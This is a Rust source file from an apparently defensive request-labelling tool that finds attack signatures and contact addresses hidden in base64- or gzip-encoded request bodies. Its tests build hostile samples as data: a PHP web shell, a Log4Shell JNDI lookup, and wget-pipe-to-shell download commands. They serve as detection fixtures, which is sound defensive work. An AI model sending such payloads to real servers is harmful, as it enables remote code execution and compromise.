//! Finds labels and addresses in the decoded parts of a request.
//!
//! In: the decoded parts of a request. Out: what is found in them and not in the bytes as sent. A
//! condition on `body` or `request` is tried on the part; conditions on path, method and headers
//! are tried on the request as sent. Parts that are only URL-decoded are left out: the forms of a
//! request have them.

use std::ops::Range;

use forever200_decode::Part;

use crate::indicator::{self, Indicator, MAX_INDICATORS};
use crate::labels::{Label, Labeller};
use crate::sample::Sample;
use crate::text::Text;

/// Most bytes that are searched in all parts of a request together.
const MAX_BYTES: usize = 16 * 1024;

impl Labeller {
    /// Adds the labels that apply only to a decoded part, with the numbers of their signatures.
    pub(crate) fn find_inside(
        &self,
        sample: &Sample<'_>,
        decoded: &[Part],
        found: &mut Vec<(usize, Label)>,
    ) {
        for (part, seen) in parts(decoded) {
            let inside = sample.inside(part, &part.bytes[seen]);
            for index in self.with_a_word_in(&inside).iter() {
                if found.iter().any(|(known, _)| *known == index) {
                    continue;
                }
                let Some(mut label) = self.apply(index, &inside) else {
                    continue;
                };
                if !self.is_excluded(index, sample) {
                    label.found_in = Some(part.what());
                    found.push((index, label));
                }
            }
            sample.search.add(&inside.search);
        }
    }
}

/// Adds the addresses that are only in a decoded part.
pub(crate) fn indicators(decoded: &[Part], all: &mut Vec<Indicator>) {
    for (part, seen) in parts(decoded) {
        let bytes = &part.bytes[seen];
        let text = Text::raw(bytes, 0);
        let decoded_text = text.decoded(false);
        let forms: Vec<Text> = [Some(text), decoded_text].into_iter().flatten().collect();
        for mut indicator in indicator::indicators(bytes, &forms) {
            let is_known = all.iter().any(|known| known.address == indicator.address);
            if !is_known && all.len() < MAX_INDICATORS {
                indicator.evidence = part.place.clone();
                all.push(indicator);
            }
        }
    }
}

/// Returns the parts that are not only URL-decoded, and for each the range that is searched.
fn parts(decoded: &[Part]) -> impl Iterator<Item = (&Part, Range<usize>)> {
    let mut left = MAX_BYTES;
    let are_new = decoded.iter().filter(|part| !part.is_url_decoded_alone());
    are_new.filter_map(move |part| {
        let seen = 0..part.bytes.len().min(left);
        left -= seen.len();
        (!seen.is_empty()).then_some((part, seen))
    })
}

#[cfg(test)]
mod tests {
    use std::io::Write;
    use std::sync::LazyLock;

    use base64::Engine;
    use base64::prelude::BASE64_STANDARD;
    use flate2::Compression;
    use flate2::write::GzEncoder;

    use super::*;

    static LABELLER: LazyLock<Labeller> = LazyLock::new(Labeller::built_in);

    fn post(head: &str, body: &str) -> Vec<u8> {
        format!("POST /x HTTP/1.1\r\n{head}\r\n{body}").into_bytes()
    }

    /// Returns where the signature of PHP code was found, and the bytes.
    fn php(raw: &[u8]) -> Option<(Option<String>, Vec<u8>)> {
        let labels = LABELLER.describe(raw, None).labels.into_iter();
        let mut found = labels.filter(|label| label.signature.id == "php-code-in-request");
        let label = found.next()?;
        Some((label.found_in, raw[label.evidence[0].clone()].to_vec()))
    }

    #[test]
    fn a_label_says_in_which_part_it_was_found() {
        let code = BASE64_STANDARD.encode("<?php system($_GET['c']); ?> and more");
        let (place, evidence) = php(&post("", &format!("{{\"a\":\"{code}\"}}"))).unwrap();
        assert_eq!(place.unwrap(), "body, base64 PD9waHAgc3lzdGVtKCR…");
        assert_eq!(evidence, code.as_bytes());
        // Code that also stands there as sent is found there.
        let (place, _) = php(&post("", &format!("<?php system($_GET['c']); ?>{code}"))).unwrap();
        assert_eq!(place, None);
    }

    #[test]
    fn the_address_of_a_hidden_download_is_a_contact() {
        let code = BASE64_STANDARD.encode("wget http://198.51.100.9/x -O- | sh");
        let jndi = format!("${{jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/{code}}}");
        for body in [format!("x={code}"), jndi] {
            let raw = post("", &body);
            let mut found = LABELLER.describe(&raw, None).indicators.into_iter();
            let indicator = found.find(|it| it.address == "hxxp://198[.]51[.]100[.]9/x");
            assert_eq!(&raw[indicator.unwrap().evidence], code.as_bytes());
        }
    }

    #[test]
    fn a_packed_form_is_a_form() {
        let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
        // The text is repeated so that compression makes it smaller; otherwise it would be stored
        // as is.
        let form = "z=1&cmd=wget+http://198.51.100.9/x;sh+x&".repeat(9);
        gzip.write_all(form.as_bytes()).unwrap();
        let head = post("Content-Encoding: gzip\r\n", "");
        let raw = [head, gzip.finish().unwrap()].concat();
        let description = LABELLER.describe(&raw, None);
        assert!(!description.indicators.is_empty());
        let mut places = description
            .labels
            .iter()
            .filter_map(|it| it.found_in.as_deref());
        assert_eq!(places.next(), Some("body, gunzipped"));
    }
}
